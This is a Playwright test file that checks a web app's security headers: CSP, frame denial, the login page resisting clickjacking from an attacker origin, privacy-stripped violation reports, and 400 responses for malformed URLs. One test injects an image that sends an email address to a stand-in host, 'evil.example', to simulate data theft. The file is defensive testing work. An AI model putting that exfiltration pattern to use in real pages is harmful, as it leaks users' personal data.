// Issue 9: every static origin sends the security headers, no other site can
// frame the login page, and a malformed URL costs one 400, not the site.
// (Zero CSP violations over every journey: the noCspViolations fixture.)
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { remoteApps } from '../../tooling/build/apps.mjs';
import { CHROMIUM_ARGS, HEADLESS_CHROMIUM } from '../../tooling/machine/chromium.mjs';
import { rootDir } from '../../tooling/machine/pnpm.mjs';
import { securityHeaders } from '../../tooling/serve/security-headers.mjs';
import { serveStatic } from '../../tooling/serve/static-server.mjs';
import { builtShell, siteConfig } from '../support/site-ports.mjs';
import { chromium } from '@playwright/test';
import { expect, test } from '../support/fixtures';

const remotes = remoteApps.map(({ name }) => name);
const portOf = (server: Server) => (server.address() as AddressInfo).port;

test.describe('security headers', () => {
  test('every static origin sends the one header set derived from the site config', async ({ request, site }) => {
    const urls = [
      `${site.origin}/`,
      `${site.origin}/login`,
      `${site.origin}/config.json`,
      ...remotes.flatMap((name) => [`${site.remoteOrigin(name)}/mf-manifest.json`, `${site.remoteOrigin(name)}/remoteEntry.js`]),
    ];
    // A course that does not exist is not a page (404, issue 28), yet its answer is the browser's page: same headers.
    const notFound = `${site.origin}/course/some-id`;
    const expected = securityHeaders(siteConfig, { loaders: [builtShell().loader] });
    for (const url of [...urls, notFound]) {
      const response = await request.get(url);
      expect(response.status(), url).toBe(url === notFound ? 404 : 200);
      const headers = response.headers();
      expect(headers['x-frame-options'], url).toBe('DENY');
      expect(headers['x-content-type-options'], url).toBe('nosniff');
      expect(headers['referrer-policy'], url).toBe('strict-origin-when-cross-origin');
      expect(headers['content-security-policy'], url).toBe(expected['Content-Security-Policy']);
      // Issue 23: features no page uses refused, no window handle across origins, violations reported.
      expect(headers['permissions-policy'], url).toBe(expected['Permissions-Policy']);
      expect(headers['cross-origin-opener-policy'], url).toBe('same-origin');
      expect(headers['content-security-policy'], url).toContain(`report-uri ${site.apiBaseUrl}reports`);
      // Served over plain HTTP: HSTS would be ignored, and is never sent.
      expect(headers['strict-transport-security'], url).toBeUndefined();
    }

    const policy = expected['Content-Security-Policy'];
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).not.toMatch(/unsafe-eval|unsafe-inline/);
    const sourcesOf = (directive: string) =>
      policy
        .split('; ')
        .find((entry) => entry.startsWith(`${directive} `))
        ?.split(' ')
        .slice(1);
    for (const name of remotes) expect(sourcesOf('script-src')).toContain(site.remoteOrigin(name));
    expect(sourcesOf('connect-src')).toContain(new URL(site.apiBaseUrl).origin);
    expect(sourcesOf('img-src')).toContain(new URL(site.apiBaseUrl).origin);
  });

  test('another site cannot frame the login page', async ({ page, site }) => {
    // The control: the same shell build served without the headers, which any site may frame.
    const unprotected = await serveStatic({
      dir: join(rootDir, 'apps/shell/dist'),
      port: 0,
      files: { '/config.json': JSON.stringify(siteConfig) },
    });
    // The attacker is a real server on another origin: Chromium would refuse a page
    // fulfilled by page.route the loopback frames (local network access).
    const attacker = createServer((_request, response) => {
      response.writeHead(200, { 'Content-Type': 'text/html' });
      response.end(`<!doctype html><title>attacker</title>
        <iframe id="framed" title="framed" src="${site.origin}/login"></iframe>
        <iframe id="control" title="control" src="http://localhost:${portOf(unprotected)}/login"></iframe>`);
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    try {
      const framedResponse = page.waitForResponse(`${site.origin}/login`);
      await page.goto(`http://localhost:${portOf(attacker)}/`);
      await framedResponse;
      await expect(page.frameLocator('#control').getByLabel('Password', { exact: true })).toBeVisible();
      // By now the framed page has had as long as the control took to show its form.
      await expect(page.frameLocator('#framed').locator('input')).toHaveCount(0);
      expect(page.frames().map((frame) => frame.url())).not.toContain(`${site.origin}/login`);
    } finally {
      for (const server of [unprotected, attacker]) server.closeAllConnections();
      await Promise.all([unprotected, attacker].map((server) => new Promise((resolve) => server.close(resolve))));
    }
  });

  test('a violation of the policy is reported by the browser to the API, which keeps it without personal data (issue 23)', async ({ request, site }) => {
    // A browser of its own: the suite's fixture fails a test on any violation.
    const browser = await chromium.launch({ executablePath: HEADLESS_CHROMIUM, args: CHROMIUM_ARGS });
    const since = new Date(Date.now() - 1000).toISOString();
    try {
      const page = await browser.newPage();
      await page.goto(`${site.origin}/reset-password/a1b2c3d4e5f6a7b8c9d0e1f2?email=jane@example.co.ke`);
      await expect(page.locator('html[data-shell]')).toBeAttached();
      // What an injected script would try: a picture from a site the policy does not list.
      await page.evaluate(() => {
        const picture = document.createElement('img');
        picture.src = 'https://evil.example/pixel.png?stolen=jane@example.co.ke';
        document.body.append(picture);
      });
      const cspReports = async () => {
        const answer = await request.get(`${site.apiBaseUrl}test/reports`, { params: { since } });
        const { reports } = (await answer.json()) as { reports: Record<string, unknown>[] };
        // This page's own: the suites beside this one report to the same API.
        return reports.filter((report) => report.kind === 'csp' && report.path === '/reset-password/*');
      };
      await expect.poll(cspReports, { timeout: 20_000 }).toHaveLength(1);
      const [stored] = await cspReports();
      expect(stored).toMatchObject({ kind: 'csp', path: '/reset-password/*', subject: 'img-src', message: 'https://evil.example', session: null });
      expect(JSON.stringify(stored)).not.toMatch(/jane|a1b2c3d4e5f6|stolen|127\.0\.0\.1/);
    } finally {
      await browser.close();
    }
  });

  test('a malformed URL is a 400 and every origin answers afterwards', async ({ request, site }) => {
    const response = await request.get(`${site.origin}/%E0%A4%A`);
    expect(response.status()).toBe(400);
    expect(response.headers()['x-frame-options']).toBe('DENY');

    expect((await request.get(`${site.origin}/`)).status()).toBe(200);
    for (const name of remotes) {
      expect((await request.get(`${site.remoteOrigin(name)}/mf-manifest.json`)).status(), name).toBe(200);
    }
  });
});
